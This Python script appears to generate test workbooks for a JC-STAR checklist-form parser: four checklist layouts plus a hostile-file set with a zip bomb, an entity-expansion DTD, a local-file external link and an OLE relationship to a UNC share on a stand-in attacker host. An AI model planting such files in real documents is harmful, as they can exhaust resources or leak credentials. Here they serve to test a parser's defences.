#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Builds the checklist workbooks the official-form tests read (tests/core/testofficialform.cpp).

Usage: makeforms.py OUTDIR CRITERIA.json

Four plausible layouts of an IPA-style checklist, written with openpyxl, each with a manifest
entry saying where its answer cells are (the ground truth the detector is compared with):
  a  flat table, one row per item, points as lines of one cell, literal list 適合/不適合/対象外
  b  points as sub-rows under vertically merged item cells, one verdict cell per point, the
     list drawn from a hidden sheet; saved as .xlsm with a vbaProject.bin that must survive
  c  a cover sheet with field cells (some merged) and a protected checklist sheet whose
     verdict cells take 〇/×/－; item ids in full-width characters; a COUNTIF total
  d  English (PSTI variant): application sheet and checklist, Conforming/Non-conforming/Not applicable
and the hostile files derived from (a): zip bomb, DTD with entity expansion, external links,
a million rows, a missing part, a duplicated part, a merged range out of bounds.
"""
import json
import os
import shutil
import sys
import zipfile

from openpyxl import Workbook
from openpyxl.styles import Alignment, Border, Font, PatternFill, Protection, Side
from openpyxl.worksheet.datavalidation import DataValidation

THIN = Side(style="thin")
BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)
HEAD = PatternFill("solid", fgColor="DDEBF7")
WRAP = Alignment(wrap_text=True, vertical="top")


def cell_name(col, row):
    name = ""
    while col:
        col, rest = divmod(col - 1, 26)
        name = chr(65 + rest) + name
    return f"{name}{row}"


def ref(sheet, col, row):
    quoted = sheet if sheet.replace("_", "").isalnum() and sheet.isascii() else "'" + sheet.replace("'", "''") + "'"
    return f"{quoted}!{cell_name(col, row)}"


def styled(ws, col, row, value=None, head=False):
    c = ws.cell(row=row, column=col)
    if value is not None:
        c.value = value
    c.border = BOX
    c.alignment = WRAP
    if head:
        c.fill = HEAD
        c.font = Font(bold=True)
    return c


def header(ws, row, titles):
    for col, title in enumerate(titles, start=1):
        styled(ws, col, row, title, head=True)


def points_of(item, english=False):
    pts = item.get("evaluationPoints", {}).get("points", [])
    lang = "en" if english else "ja"
    word = "Evaluation point" if english else "評価項目"
    return [f"{word}{n}: {p['text'][lang]}" for n, p in enumerate(pts, start=1)] or [f"{word}1: -"]


def flat_table(criteria, path):
    """(a) one row per item."""
    wb = Workbook()
    ws = wb.active
    ws.title = "チェックリスト"
    ws["A1"] = "JC-STAR ★1 適合基準チェックリスト"
    styled(ws, 1, 2, "製品名")
    styled(ws, 2, 2)
    header(ws, 4, ["No.", "適合基準項番", "要求事項", "評価項目", "判定", "根拠（記載箇所）", "対象外の理由", "備考"])
    dv = DataValidation(type="list", formula1='"適合,不適合,対象外"', allow_blank=True)
    ws.add_data_validation(dv)
    items = []
    for n, item in enumerate(criteria["items"], start=1):
        row = 4 + n
        styled(ws, 1, row, n)
        styled(ws, 2, row, item["id"])
        styled(ws, 3, row, item["title"]["ja"])
        styled(ws, 4, row, "\n".join(points_of(item)))
        for col in range(5, 9):
            styled(ws, col, row)
        dv.add(cell_name(5, row))
        items.append({"id": item["id"], "verdictCell": ref(ws.title, 5, row), "evidenceCell": ref(ws.title, 6, row),
                      "reasonCell": ref(ws.title, 7, row), "remarksCell": ref(ws.title, 8, row),
                      "pointVerdictCells": [], "points": len(points_of(item))})
    ws.column_dimensions["C"].width = 30
    ws.column_dimensions["D"].width = 60
    wb.save(path)
    return {"items": items, "fields": {"product.name": ref(ws.title, 2, 2)},
            "vocabulary": {"conforming": "適合", "non-conforming": "不適合", "not-applicable": "対象外"}}


def sub_rows(criteria, path):
    """(b) points as sub-rows under merged item cells, a verdict per point."""
    wb = Workbook()
    ws = wb.active
    ws.title = "評価シート"
    lists = wb.create_sheet("リスト")
    for n, word in enumerate(["適合", "不適合", "対象外"], start=1):
        lists.cell(row=n, column=1, value=word)
    lists.sheet_state = "hidden"
    ws["A1"] = "適合基準（★1）自己評価シート"
    ws["A2"] = "事業者名"
    ws.merge_cells("B2:D2")
    header(ws, 5, ["項番", "要件", "評価項目", "判定", "エビデンス", "備考"])
    dv = DataValidation(type="list", formula1="'リスト'!$A$1:$A$3", allow_blank=True)
    ws.add_data_validation(dv)
    row = 6
    items = []
    for item in criteria["items"]:
        pts = points_of(item)
        first, last = row, row + len(pts) - 1
        styled(ws, 1, first, item["id"])
        styled(ws, 2, first, item["requirement"]["ja"])
        styled(ws, 5, first)
        styled(ws, 6, first)
        for col in (1, 2, 5, 6):
            for r in range(first + 1, last + 1):
                styled(ws, col, r)
            if last > first:
                ws.merge_cells(start_row=first, start_column=col, end_row=last, end_column=col)
        verdicts = []
        for k, text in enumerate(pts):
            styled(ws, 3, first + k, text)
            styled(ws, 4, first + k)
            dv.add(cell_name(4, first + k))
            verdicts.append(ref(ws.title, 4, first + k))
        items.append({"id": item["id"], "verdictCell": verdicts[0], "evidenceCell": ref(ws.title, 5, first),
                      "reasonCell": None, "remarksCell": ref(ws.title, 6, first),
                      "pointVerdictCells": verdicts if last > first else [], "points": len(pts)})
        row = last + 1
    wb.save(path)
    use_shared_strings(path)
    add_macro_part(path)
    return {"items": items, "fields": {"manufacturer.name": ref(ws.title, 2, 2)},
            "vocabulary": {"conforming": "適合", "non-conforming": "不適合", "not-applicable": "対象外"}}


def add_macro_part(path):
    """Turns the saved workbook into a macro-enabled one: a vbaProject.bin part, its content
    type and relationship (the bytes are opaque to Hoshi; they must come out unchanged)."""
    tmp = path + ".tmp"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(b'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
                                    b'application/vnd.ms-excel.sheet.macroEnabled.main+xml')
                data = data.replace(b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            dst.writestr(info, data)
        dst.writestr("xl/vbaProject.bin", bytes(range(256)) * 16)
    os.replace(tmp, path)


def cover_and_protected(criteria, path):
    """(c) cover sheet with fields, protected checklist with 〇/×/－."""
    wb = Workbook()
    cover = wb.active
    cover.title = "表紙"
    cover["B2"] = "JC-STAR 適合ラベル申請 チェックリスト"
    labels = [("製品名", "product.name"), ("型番", "product.modelNumbers"), ("製造業者名", "manufacturer.name"),
              ("法人番号", "manufacturer.corporateNumber"), ("ファームウェアバージョン", "product.firmwareVersion"),
              ("評価完了日", "declaration.evaluationCompletedOn"), ("適合基準", "criteria.id"), ("連絡先", "manufacturer.contact")]
    fields = {}
    for n, (label, key) in enumerate(labels):
        row = 4 + n
        styled(cover, 2, row, label, head=True)
        styled(cover, 3, row)
        styled(cover, 4, row)
        styled(cover, 5, row)
        cover.merge_cells(start_row=row, start_column=3, end_row=row, end_column=5)
        fields[key] = ref(cover.title, 3, row)
    ws = wb.create_sheet("チェックシート")
    header(ws, 2, ["項目番号", "評価観点", "結果", "確認方法・根拠", "対象外の理由", "備考"])
    dv = DataValidation(type="list", formula1='"〇,×,－"', allow_blank=True)
    ws.add_data_validation(dv)
    tl = DataValidation(type="textLength", operator="lessThanOrEqual", formula1="2000")
    ws.add_data_validation(tl)
    full = str.maketrans("0123456789.-S", "０１２３４５６７８９．－Ｓ")
    items = []
    for n, item in enumerate(criteria["items"]):
        row = 3 + n
        styled(ws, 1, row, item["id"].translate(full))
        styled(ws, 2, row, "\n".join(points_of(item)))
        for col in range(3, 7):
            c = styled(ws, col, row)
            c.protection = Protection(locked=False)
        dv.add(cell_name(3, row))
        tl.add(cell_name(4, row))
        items.append({"id": item["id"], "verdictCell": ref(ws.title, 3, row), "evidenceCell": ref(ws.title, 4, row),
                      "reasonCell": ref(ws.title, 5, row), "remarksCell": ref(ws.title, 6, row),
                      "pointVerdictCells": [], "points": len(points_of(item))})
    total = 3 + len(criteria["items"]) + 1
    ws.cell(row=total, column=2, value="適合数")
    ws.cell(row=total, column=3, value=f'=COUNTIF(C3:C{total - 2},"〇")')
    ws.protection.sheet = True
    ws.protection.password = "ipa"
    wb.save(path)
    use_shared_strings(path)
    return {"items": items, "fields": fields,
            "vocabulary": {"conforming": "〇", "non-conforming": "×", "not-applicable": "－"}}


def english(criteria, path):
    """(d) English PSTI variant."""
    wb = Workbook()
    app = wb.active
    app.title = "Application"
    labels = [("Product name", "product.name"), ("Model number", "product.modelNumbers"), ("Manufacturer", "manufacturer.name"),
              ("Firmware version", "product.firmwareVersion"), ("Evaluation completion date", "declaration.evaluationCompletedOn"),
              ("Criteria", "criteria.id"), ("Contact", "manufacturer.contact")]
    fields = {}
    for n, (label, key) in enumerate(labels):
        styled(app, 1, 2 + n, label + ":", head=True)
        styled(app, 2, 2 + n)
        fields[key] = ref(app.title, 2, 2 + n)
    ws = wb.create_sheet("Checklist")
    ws["A1"] = "JC-STAR STAR-1 checklist (UK PSTI mutual recognition)"
    header(ws, 3, ["Criterion", "Requirement", "Evaluation point", "Result", "Evidence", "Reason (if N/A)", "Remarks"])
    dv = DataValidation(type="list", formula1='"Conforming,Non-conforming,Not applicable"', allow_blank=True)
    ws.add_data_validation(dv)
    items = []
    for n, item in enumerate(criteria["items"]):
        row = 4 + n
        styled(ws, 1, row, item["id"])
        styled(ws, 2, row, item["title"]["en"])
        styled(ws, 3, row, "\n".join(points_of(item, english=True)))
        for col in range(4, 8):
            styled(ws, col, row)
        dv.add(cell_name(4, row))
        items.append({"id": item["id"], "verdictCell": ref(ws.title, 4, row), "evidenceCell": ref(ws.title, 5, row),
                      "reasonCell": ref(ws.title, 6, row), "remarksCell": ref(ws.title, 7, row),
                      "pointVerdictCells": [], "points": len(points_of(item))})
    wb.save(path)
    return {"items": items, "fields": fields,
            "vocabulary": {"conforming": "Conforming", "non-conforming": "Non-conforming", "not-applicable": "Not applicable"}}


def use_shared_strings(path):
    """Moves every inline string of the workbook into xl/sharedStrings.xml, as Excel stores
    text, and drops fullCalcOnLoad from <calcPr> (Excel does not write it): the filler must then
    leave sharedStrings.xml alone and set fullCalcOnLoad itself."""
    import re
    strings, index = [], {}
    cell = re.compile(rb'<c ([^>]*?)t="inlineStr"([^>]*)><is><t>(.*?)</t></is></c>', re.S)

    def shared(match):
        text = match.group(3)
        if text not in index:
            index[text] = len(strings)
            strings.append(text)
        return b'<c ' + match.group(1) + b't="s"' + match.group(2) + b'><v>%d</v></c>' % index[text]

    tmp = path + ".tmp"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                data = cell.sub(shared, data)
            if info.filename == "xl/workbook.xml":
                data = data.replace(b' fullCalcOnLoad="1"', b"")
            if info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
            dst.writestr(info, data)
        sst = b"".join(b'<si><t xml:space="preserve">' + t + b"</t></si>" for t in strings)
        dst.writestr("xl/sharedStrings.xml", b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                     b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="%d" uniqueCount="%d">' % (len(strings), len(strings))
                     + sst + b"</sst>")
    os.replace(tmp, path)


def rewrite(src, dst, change=None, drop=(), add=()):
    """Copies a workbook entry by entry; change(name, data) may return new bytes."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            if info.filename in drop:
                continue
            data = zin.read(info.filename)
            if change:
                data = change(info.filename, data)
            zout.writestr(info, data)
        for name, data in add:
            zout.writestr(name, data)


SHEET = "xl/worksheets/sheet1.xml"


def hostile(base, out):
    files = {}

    def put(name, reason):
        files[name] = reason
        return os.path.join(out, name)

    # A sheet padded with 40 MB of spaces: compresses about a thousand times.
    rewrite(base, put("bomb.xlsx", "zip bomb"),
            lambda n, d: d.replace(b"<sheetData>", b"<sheetData>" + b" " * (40 << 20), 1) if n == SHEET else d)
    laughs = (b'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
              b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>')
    rewrite(base, put("dtd.xlsx", "DTD"),
            lambda n, d: laughs + d[d.find(b"?>") + 2 if b"?>" in d else 0:].replace(b"</sheetData>", b"<row r=\"99\"><c r=\"A99\" t=\"inlineStr\"><is><t>&c;</t></is></c></row></sheetData>", 1)
            if n == SHEET else d)
    ext_rel = (b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" '
               b'Target="externalLinks/externalLink1.xml"/></Relationships>')
    rewrite(base, put("externallink.xlsx", "external links"),
            lambda n, d: d.replace(b"</Relationships>", ext_rel) if n == "xl/_rels/workbook.xml.rels" else d,
            add=[("xl/externalLinks/externalLink1.xml", b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'),
                 ("xl/externalLinks/_rels/externalLink1.xml.rels",
                  b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                  b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
                  b'Target="file:///C:/secret/other.xlsx" TargetMode="External"/></Relationships>')])
    ole = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
           b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" '
           b'Target="\\\\attacker.example\\share\\x.bin" TargetMode="External"/></Relationships>')
    rewrite(base, put("externalrelationship.xlsx", "external relationship"),
            add=[("xl/worksheets/_rels/sheet1.xml.rels", ole)])
    rows = "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 1_000_001)).encode()
    rewrite(base, put("millionrows.xlsx", "a million rows"),
            lambda n, d: d[:d.index(b"<sheetData")] + b"<sheetData>" + rows + b"</sheetData></worksheet>" if n == SHEET else d)
    rewrite(base, put("missingsheet.xlsx", "missing part"), drop=(SHEET,))
    rewrite(base, put("missingcontenttypes.xlsx", "missing content types"), drop=("[Content_Types].xml",))
    with zipfile.ZipFile(base) as z:
        again = z.read(SHEET)
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        rewrite(base, put("duplicatepart.xlsx", "duplicated part"), add=[(SHEET, again)])
    rewrite(base, put("mergeoutofbounds.xlsx", "merged range out of bounds"),
            lambda n, d: d.replace(b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="A1:A500000"/></mergeCells>', 1)
            if n == SHEET else d)
    return files


def main():
    out, criteria_path = sys.argv[1], sys.argv[2]
    with open(criteria_path, encoding="utf-8") as f:
        criteria = json.load(f)
    os.makedirs(out, exist_ok=True)
    forms = {}
    for name, build in (("form-a.xlsx", flat_table), ("form-b.xlsm", sub_rows), ("form-c.xlsx", cover_and_protected),
                        ("form-d.xlsx", english)):
        forms[name] = build(criteria, os.path.join(out, name))
    hostile_dir = os.path.join(out, "hostile")
    os.makedirs(hostile_dir, exist_ok=True)
    manifest = {"criteria": criteria["id"], "forms": forms, "hostile": hostile(os.path.join(out, "form-a.xlsx"), hostile_dir)}
    with open(os.path.join(out, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(manifest, f, ensure_ascii=False, indent=1)


if __name__ == "__main__":
    main()
